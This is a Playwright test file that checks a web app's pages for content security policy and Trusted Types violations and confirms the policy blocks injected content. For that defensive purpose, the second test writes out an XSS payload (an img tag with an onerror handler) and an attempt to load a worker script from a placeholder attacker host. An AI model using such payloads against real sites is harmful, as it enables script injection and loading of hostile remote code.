import fs from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { signInByScript } from './api-client.ts';
import { type DemoPage, demoPages, settle } from './demo-pages.ts';
import { emptyDataDirectory, type ServerProcess, startServer } from './server-process.ts';
import { signIn } from './sign-in.ts';

const dataDirectory = emptyDataDirectory();
let server: ServerProcess;
let pages: DemoPage[];
test.beforeAll(async () => {
  server = await startServer({ dataDirectory, args: ['--demo'] });
  pages = await demoPages(await signInByScript(server.address, 'admin'));
});
test.afterAll(async () => {
  await server.stop();
  fs.rmSync(dataDirectory, { recursive: true });
});

/** What the browser refused on every document of a page from now on, and what it complained of. */
async function listen(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { violatedDirective, blockedURI, sourceFile, lineNumber, sample } = event;
      const note = (globalThis as unknown as { noteRefusal(text: string): void }).noteRefusal;
      note(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sourceFile}:${lineNumber} ${sample}`);
    });
  });
  page.on('console', (message) => {
    if (/content security policy|trusted ?type/i.test(message.text())) refused.push(message.text());
  });
  return refused;
}

test('no page, panel or dialog does anything that the content security policy refuses', async ({ page }) => {
  test.setTimeout(400_000);
  const refused = await listen(page);
  await page.goto(`${server.address}/welcome`);
  await signIn(page, 'Admin');
  for (const { path } of pages) {
    await page.goto(server.address + path);
    await settle(page);
    expect(refused, path).toEqual([]);
  }
  // A second visit comes from the service worker, which has its own copy of the page and its headers.
  await page.goto(`${server.address}/warehouses`);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await page.reload();
  await settle(page);
  expect(refused).toEqual([]);
});

test('the policy is in force: what a page would have to be made to do is refused, and is seen here', async ({
  page,
}) => {
  const refused = await listen(page);
  await page.goto(`${server.address}/welcome`);
  await settle(page);
  await page.evaluate(() => {
    document.body.append(
      Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }),
    );
    document.body.setAttribute('style', 'color: red');
  });
  const markup = () =>
    page.evaluate(() => {
      document.body.innerHTML = '<img src=x onerror=alert(1)>';
    });
  await expect(markup()).rejects.toThrow(/Trusted/);
  const foreign = () => page.evaluate(() => new Worker('https://evil.example/worker.js'));
  await expect(foreign()).rejects.toThrow();
  await expect.poll(() => refused.filter((one) => one.includes('style-src')).length).toBeGreaterThan(1);
});
